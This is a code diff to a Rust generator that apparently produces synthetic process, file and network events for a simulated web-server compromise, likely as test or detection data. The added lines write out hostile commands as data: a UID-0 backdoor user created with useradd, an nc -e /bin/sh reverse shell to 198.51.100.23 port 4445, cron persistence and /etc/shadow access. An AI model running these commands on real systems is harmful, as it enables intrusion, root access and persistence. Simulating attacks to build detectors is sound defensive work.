@@ -1341,8 +1341,8 @@ impl Generator {
     }
 
     /// Web-server compromise in the frontend container: RCE through nginx, recon,
-    /// /etc/shadow read, dropper download, binary written to /bin, a miner and a
-    /// reverse shell with persistence.
+    /// /etc/shadow read, dropper download, binary written to /bin, a miner, a reverse
+    /// shell (bash and nc), privilege escalation, a backdoor user and cron persistence.
     fn attack(&mut self) {
         let ip = |a: [u8; 4]| ip_le(a[0], a[1], a[2], a[3]);
         let worker = self
@@ -1425,6 +1425,21 @@ impl Generator {
         let t = self.spawn(rs, "/bin/su", "-", Role::Tool);
         self.read_file(t, "/etc/shadow", 980);
         self.setuid(t, 0, "root");
+        self.exit(t, 0);
+        let t = self.spawn(rs, "/bin/uname", "-a", Role::Tool);
+        self.exit(t, 0);
+        let t = self.spawn(rs, "/usr/sbin/useradd", "-o -u 0 -g 0 -M -d /root -s /bin/bash sysupd", Role::Tool);
+        self.read_file(t, "/etc/login.defs", 10_700);
+        self.ff(t, "/etc/passwd", b'f', OP_OPEN | OP_READ_RECV | OP_WRITE_SEND | OP_CLOSE, O_RDWR | O_CLOEXEC, 1, 1, 1_300);
+        self.ff(t, "/etc/shadow", b'f', OP_OPEN | OP_READ_RECV | OP_WRITE_SEND | OP_CLOSE, O_RDWR | O_CLOEXEC, 1, 1, 1_000);
+        self.exit(t, 0);
+        let t = self.spawn(rs, "/usr/bin/nc", "-e /bin/sh 198.51.100.23 4445", Role::Tool);
+        let sip = self.own_ip(t);
+        let sport = self.ephemeral();
+        self.nf(t, OP_CONNECT | OP_WRITE_SEND | OP_READ_RECV | OP_CLOSE, sip, sport, ip(REVERSE_SHELL), 4445, TCP, 6, 9, 310, 4_200);
+        self.exit(t, 0);
+        let t = self.spawn(rs, "/bin/sh", "-c echo '*/5 * * * * root /bin/kworkerd' >> /etc/crontab", Role::Tool);
+        self.ff(t, "/etc/crontab", b'f', OP_OPEN | OP_WRITE_SEND | OP_CLOSE, O_WRONLY | O_CREAT | O_APPEND, 0, 1, 44);
         self.exit(t, 0);
         let t = self.spawn(rs, "/bin/sh", "-c echo '* * * * * root /bin/kworkerd' > /etc/cron.d/kworker", Role::Tool);
         self.ff(t, "/etc/cron.d/kworker", b'f', OP_OPEN | OP_WRITE_SEND | OP_CLOSE, O_WRONLY | O_CREAT | O_TRUNC, 0, 1, 36);
